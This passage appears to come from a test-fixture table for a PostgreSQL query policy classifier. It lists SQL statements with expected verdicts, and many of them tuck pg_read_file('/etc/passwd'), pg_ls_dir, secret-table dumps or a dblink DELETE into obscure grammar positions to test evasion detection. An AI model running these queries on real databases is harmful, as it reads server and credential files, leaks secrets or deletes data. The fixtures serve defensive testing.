      e("SELECT cursor_to_xmlschema('c', true, true, '')", "no-schema-changes", [s("select dynamic", "", "cursor_to_xmlschema")]),
      e("SELECT table_to_xml('secrets', true, true, '')", "no-schema-changes", [s("select dynamic", "secrets", "table_to_xml")]),
      e(`SELECT table_to_xml('"vault".KEYS'::regclass, true, true, '')`, "no-schema-changes", [s("select dynamic", "vault.keys", "table_to_xml")], { note: "read as regclass input reads a name" }),
      e("SELECT table_to_xmlschema('secrets', true, true, ''), table_to_xml_and_xmlschema('orders', true, true, '')", "no-schema-changes", [s("select dynamic", "secrets orders", "table_to_xmlschema table_to_xml_and_xmlschema")]),
      e("SELECT schema_to_xml('vault', true, true, '')", "no-schema-changes", [s("select dynamic", "", "schema_to_xml")]),
      e("SELECT schema_to_xmlschema('vault', true, true, ''), schema_to_xml_and_xmlschema('vault', true, true, '')", "no-schema-changes", [s("select dynamic", "", "schema_to_xmlschema schema_to_xml_and_xmlschema")]),
      e("SELECT database_to_xml(true, true, ''), database_to_xmlschema(true, true, ''), database_to_xml_and_xmlschema(true, true, '')", "no-schema-changes", [s("select dynamic", "", "database_to_xml database_to_xmlschema database_to_xml_and_xmlschema")]),
      e("SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", "no-schema-changes", [s("select dynamic", "", "pg_logical_slot_get_changes")], { note: "the decoded changes of every table" }),
      e("SELECT * FROM crosstab('select * from secrets') AS t(a text, b text)", "no-schema-changes", [s("select dynamic", "secrets", "crosstab")]),
      e("SELECT * FROM connectby('secrets', 'id', 'parent', '1', 0) AS t(id text, parent text, level int)", "no-schema-changes", [s("select dynamic", "secrets", "connectby")]),
      e("SELECT * FROM xpath_table('id', 'doc', 'secrets', '/a', 'true') AS t(id int, a text)", "no-schema-changes", [s("select dynamic", "secrets", "xpath_table")]),
      e("SELECT get_raw_page('secrets', 0)", "no-schema-changes", [s("select dynamic", "secrets", "get_raw_page")]),
      e("SELECT dblink_exec('dbname=app', 'DELETE FROM customers')", "no-schema-changes", [s("select dynamic delete", "customers", "dblink_exec")], { note: "dblink may connect back to this database" }),
      e("SELECT currval('secrets_id_seq'), setval('vault.s', 1)", "protect-secrets", [s("select", "secrets_id_seq vault.s", "currval setval")]),
      e("SELECT ('select * from secrets'::text).ts_stat", "no-schema-changes", [s("select dynamic", "secrets", "ts_stat")], { note: "attribute notation: ts_stat(text) called on the literal" }),
    ],
  },
  {
    theme: "calls in attribute notation",
    covers: "`x.f` and `(expr).f` call f(x) when x has no column or field f (PostgreSQL 15, checked): every such name counts as a possible call",
    entries: [
      e("SELECT ('/etc/passwd'::text).pg_read_file", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT ('/etc/passwd'::text).PG_READ_FILE", "no-server-files", [s("select", "", "pg_read_file")]),
      e(`SELECT ('/etc/passwd'::text)."pg_read_file"`, "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT ('.').pg_ls_dir", "no-server-files", [s("select", "", "pg_ls_dir")]),
      e("SELECT orders.pg_read_file FROM orders", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("SELECT o.pg_read_file FROM orders o", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("SELECT public.orders.pg_read_file FROM orders", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("SELECT app.public.orders.pg_read_file FROM orders", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("SELECT (o).pg_read_file FROM orders o", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("SELECT (o.path).pg_read_file FROM orders o", "no-server-files", [s("select", "orders", "path pg_read_file")]),
      e("SELECT (ARRAY['/etc/passwd'])[1].pg_read_file", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT 1 FROM orders o WHERE o.lo_import IS NOT NULL", "no-server-files", [s("select", "orders", "lo_import")]),
      e("SELECT * FROM orders o, LATERAL (SELECT o.pg_read_file) s", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("UPDATE orders o SET note = o.pg_read_file WHERE id = 1", "no-server-files", [s("update", "orders", "pg_read_file")]),
      e("SELECT * FROM orders o ORDER BY o.pg_read_file", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("SELECT o.* FROM orders o", ALLOW, [s("select", "orders")], { note: "a star is a whole row, not a call" }),
    ],
  },
  {
    theme: "expressions hidden in the grammar",
    covers: "every place of PostgreSQL 15's grammar where an expression (a call) can sit: the walker visits every node, so a denied function is found wherever it is",
    entries: [
      e("COPY orders FROM STDIN WHERE pg_read_file('/etc/passwd') IS NOT NULL", "no-server-files", [s("copy_in", "orders", "pg_read_file")], { note: "COPY FROM's WHERE runs for every row" }),
      e("COPY orders FROM STDIN WHERE id IN (SELECT id FROM secrets)", "protect-secrets", [s("copy_in select", "orders secrets")], { note: "PostgreSQL refuses subqueries here; the classifier judges them anyway" }),
      e("COPY orders FROM STDIN WITH (FORMAT csv) WHERE ('/etc/passwd'::text).pg_read_file <> ''", "no-server-files", [s("copy_in", "orders", "pg_read_file")]),
      e("INSERT INTO orders VALUES (1) RETURNING pg_read_file('/etc/passwd')", "no-server-files", [s("insert select", "orders", "pg_read_file")]),
      e("UPDATE orders SET a = 1 WHERE id = 1 RETURNING pg_read_file('x')", "no-server-files", [s("update", "orders", "pg_read_file")]),
      e("DELETE FROM orders WHERE id = 1 RETURNING pg_read_file('x')", "no-server-files", [s("delete", "orders", "pg_read_file")]),
      e("INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2 WHERE pg_read_file('x') IS NULL", "no-server-files", [s("insert select update", "orders", "pg_read_file")]),
      e("INSERT INTO orders VALUES (1) ON CONFLICT (id) WHERE pg_read_file('x') IS NULL DO NOTHING", "no-server-files", [s("insert select", "orders", "pg_read_file")]),
      e("INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET a = pg_read_file('x')", "no-server-files", [s("insert select update", "orders", "pg_read_file")]),
      e("SELECT sum(a) OVER (ORDER BY a ROWS BETWEEN length(pg_read_file('x')) PRECEDING AND CURRENT ROW) FROM orders", "no-server-files", [s("select", "orders", "sum length pg_read_file")]),
      e("SELECT a FROM orders WINDOW w AS (ORDER BY a RANGE BETWEEN CURRENT ROW AND length(pg_read_file('x')) FOLLOWING)", "no-server-files", [s("select", "orders", "length pg_read_file")]),
      e("SELECT count(*) FILTER (WHERE pg_read_file('x') IS NULL) FROM orders", "no-server-files", [s("select", "orders", "count pg_read_file")]),
      e("SELECT string_agg(a, ',' ORDER BY pg_read_file('x')) FROM orders", "no-server-files", [s("select", "orders", "string_agg pg_read_file")]),
      e("SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length(pg_read_file('x'))) FROM orders", "no-server-files", [s("select", "orders", "percentile_cont length pg_read_file")]),
      e("SELECT * FROM orders TABLESAMPLE SYSTEM (length(pg_read_file('x')))", "no-server-files", [s("select", "orders", "system length pg_read_file")]),
      e("SELECT * FROM orders TABLESAMPLE BERNOULLI (1) REPEATABLE (length(pg_read_file('x')))", "no-server-files", [s("select", "orders", "bernoulli length pg_read_file")]),
      e("SELECT 1 LIMIT length(pg_read_file('x'))", "no-server-files", [s("select", "", "length pg_read_file")]),
      e("SELECT 1 OFFSET length(pg_read_file('x'))", "no-server-files", [s("select", "", "length pg_read_file")]),
      e("SELECT 1 FETCH FIRST (length(pg_read_file('x'))) ROWS ONLY", "no-server-files", [s("select", "", "length pg_read_file")]),
      e("SELECT a FROM orders GROUP BY a HAVING max(pg_read_file('x')) IS NULL", "no-server-files", [s("select", "orders", "max pg_read_file")]),
      e("SELECT a FROM orders GROUP BY ROLLUP (a, pg_read_file('x'))", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("SELECT DISTINCT ON (pg_read_file('x')) a FROM orders", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("VALUES (1, pg_read_file('x'))", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT * FROM (VALUES (pg_read_file('x'))) v(a)", "no-server-files", [s("select", "", "pg_read_file")]),
      e("CALL p(pg_read_file('x'))", "no-server-files", [s("call", "", "p pg_read_file")]),
      e("CALL p(a => pg_read_file('x'))", "no-server-files", [s("call", "", "p pg_read_file")]),
      e("EXECUTE q(pg_read_file('x'))", "no-server-files", [s("execute select", "", "pg_read_file")], { prepared: { q: "PREPARE q(text) AS SELECT $1" } }),
      e("SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.')) AS t(a, b)", "no-server-files", [s("select", "", "generate_series pg_ls_dir")]),
      e("SELECT * FROM orders o, LATERAL pg_read_file(o.path) f", "no-server-files", [s("select", "orders", "path pg_read_file")]),
      e("SELECT * FROM XMLTABLE('/a' PASSING xmlparse(document pg_read_file('x')) COLUMNS a text PATH 'b' DEFAULT pg_read_file('y'))", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT * FROM XMLTABLE(XMLNAMESPACES(pg_read_file('x') AS n), '/a' PASSING '<a/>' COLUMNS a text)", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT (ARRAY[1, 2])[length(pg_read_file('x'))]", "no-server-files", [s("select", "", "length pg_read_file")]),
      e("SELECT (ARRAY[1, 2])[1:length(pg_read_file('x'))]", "no-server-files", [s("select", "", "length pg_read_file")]),
      e("SELECT CASE WHEN id > 1 THEN pg_read_file('x') ELSE '' END FROM orders", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("SELECT CASE pg_read_file('x') WHEN '' THEN 1 END", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT COALESCE(NULL, pg_read_file('x')), NULLIF(pg_read_file('y'), ''), GREATEST(pg_read_file('z'), '')", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT 1::numeric(length(pg_read_file('x')))", "no-server-files", [s("select", "", "length pg_read_file")], { note: "PostgreSQL refuses non-constant typmods; judged anyway" }),
      e("SELECT pg_read_file('x') COLLATE \"C\"", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT ROW(pg_read_file('x'), 1)", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT 1 WHERE 'a' = ANY (ARRAY[pg_read_file('x')])", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT xmlelement(name a, xmlattributes(pg_read_file('x') AS b))", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT json_build_object('a', pg_read_file('x'))", "no-server-files", [s("select", "", "json_build_object pg_read_file")]),
      e("SELECT JSON_OBJECT('a' VALUE pg_read_file('x'))", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT pg_read_file('x') IS DOCUMENT", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT EXTRACT(year FROM pg_read_file('x')::date)", "no-server-files", [s("select", "", "pg_catalog.extract pg_read_file")]),
      e("EXPLAIN (ANALYZE) SELECT pg_read_file('x')", "no-server-files", [s("explain select", "", "pg_read_file")]),
      e("EXPLAIN ANALYZE INSERT INTO orders SELECT pg_read_file('x')", "no-server-files", [s("explain insert select", "orders", "pg_read_file")]),
      e("SELECT pg_read_file('x') INTO t2", "no-schema-changes", [s("select ddl", "t2", "pg_read_file")]),
      e("WITH a AS MATERIALIZED (SELECT pg_read_file('x')) SELECT * FROM a", "no-server-files", [s("select", "", "pg_read_file")]),
      e("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + length(pg_read_file('x')) FROM r) SEARCH DEPTH FIRST BY n SET o SELECT * FROM r", "no-server-files", [s("select", "", "length pg_read_file")]),
      e("MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED AND pg_read_file('x') IS NULL THEN DELETE", "no-server-files", [s("merge delete", "orders staging", "id pg_read_file")]),
      e("MERGE INTO orders o USING staging s ON o.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (pg_read_file('x'))", "no-server-files", [s("merge insert", "orders staging", "id pg_read_file")]),
      e("PREPARE q AS SELECT pg_read_file('x')", "no-server-files", [s("prepare select", "", "pg_read_file")]),
      e("DECLARE c CURSOR FOR SELECT * FROM orders WHERE pg_read_file('x') IS NULL", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("CREATE TABLE t2 AS SELECT pg_read_file('x')", "no-schema-changes", [s("ddl select", "t2", "pg_read_file")]),
      e("CREATE MATERIALIZED VIEW mv AS SELECT pg_read_file('x')", "no-schema-changes", [s("ddl select", "mv", "pg_read_file")]),
      e("CREATE VIEW v AS SELECT pg_read_file('x')", "no-schema-changes", [s("ddl select", "v", "pg_read_file")]),
      e("CREATE TABLE t (a text DEFAULT pg_read_file('x'))", "no-schema-changes", [s("ddl", "t", "pg_read_file")]),
      e("CREATE TABLE t (a text GENERATED ALWAYS AS (pg_read_file('x')) STORED)", "no-schema-changes", [s("ddl", "t", "pg_read_file")]),
      e("CREATE TABLE t (a text CHECK (pg_read_file('x') IS NULL))", "no-schema-changes", [s("ddl", "t", "pg_read_file")]),
      e("ALTER TABLE orders ALTER a SET DEFAULT pg_read_file('x')", "no-schema-changes", [s("ddl", "orders", "pg_read_file")]),
      e("ALTER TABLE orders ALTER a TYPE text USING pg_read_file('x')", "no-schema-changes", [s("ddl", "orders", "pg_read_file")]),
      e("CREATE INDEX i ON orders (a) WHERE pg_read_file('x') IS NULL", "no-schema-changes", [s("ddl", "orders", "pg_read_file")]),
      e("CREATE INDEX i ON orders ((pg_read_file(a)))", "no-schema-changes", [s("ddl", "orders", "pg_read_file")]),
      e("CREATE TRIGGER tr BEFORE INSERT ON orders FOR EACH ROW WHEN (pg_read_file('x') IS NULL) EXECUTE FUNCTION f()", "no-schema-changes", [s("ddl", "orders", "f pg_read_file")]),
      e("CREATE TRIGGER tr BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION pg_read_file()", "no-schema-changes", [s("ddl", "orders", "pg_read_file")]),
      e("CREATE DOMAIN d AS text CHECK (pg_read_file(VALUE) IS NOT NULL)", "no-schema-changes", [s("ddl", "", "pg_read_file")]),
      e("ALTER DOMAIN d ADD CHECK (pg_read_file(VALUE) IS NOT NULL)", "no-schema-changes", [s("ddl", "", "pg_read_file")]),
      e("CREATE POLICY p ON orders USING (pg_read_file('x') IS NULL)", "no-schema-changes", [s("ddl", "orders", "pg_read_file")]),
      e("CREATE FUNCTION f(a text DEFAULT pg_read_file('x')) RETURNS text LANGUAGE sql AS 'select a'", "no-schema-changes", [s("ddl", "", "pg_read_file")], { note: "a parameter default runs at each call" }),
      e("CREATE CAST (int AS text) WITH FUNCTION pg_read_file(int)", "no-schema-changes", [s("ddl", "", "pg_read_file")], { note: "every later cast would call it" }),
      e("CREATE OPERATOR === (leftarg = text, procedure = pg_read_file)", "no-schema-changes", [s("ddl", "", "pg_read_file")]),
      e("CREATE AGGREGATE a (text) (sfunc = pg_read_file, stype = text)", "no-schema-changes", [s("ddl", "", "pg_read_file")]),
      e("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION pg_read_file()", "no-schema-changes", [s("ddl", "", "pg_read_file")]),
      e("CREATE RULE r AS ON INSERT TO orders WHERE pg_read_file('x') IS NULL DO ALSO SELECT 1", "no-schema-changes", [s("ddl select", "orders", "pg_read_file")]),
      e("CREATE TABLE p1 PARTITION OF orders FOR VALUES IN (pg_read_file('x'))", "no-schema-changes", [s("ddl", "p1 orders", "pg_read_file")]),
      e("CREATE STATISTICS st ON (pg_read_file(a)) FROM orders", "no-schema-changes", [s("ddl", "orders", "pg_read_file")]),
      e("DO $$ BEGIN PERFORM ('/etc/passwd'::text).pg_read_file; END $$", "no-schema-changes", [s("dynamic select", "", "pg_read_file")]),
      e("COMMENT ON TABLE orders IS 'pg_read_file(1)'", "no-schema-changes", [s("ddl")], { note: "a string, not a call" }),
      e("SECURITY LABEL ON TABLE orders IS 'x'", "no-schema-changes", [s("ddl")]),
      e("LOCK orders IN ACCESS EXCLUSIVE MODE", ALLOW, [s("utility", "orders")]),
      e("IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y", "no-schema-changes", [s("ddl")]),
      e("FETCH FORWARD 5 FROM c", ALLOW, [s("utility")], { note: "FETCH and MOVE counts are constants in the grammar" }),
      e("SET work_mem = pg_read_file('x')", "default-deny-unknown", UNKNOWN, { note: "SET takes constants only: a call there does not parse" }),
    ],
  },
];
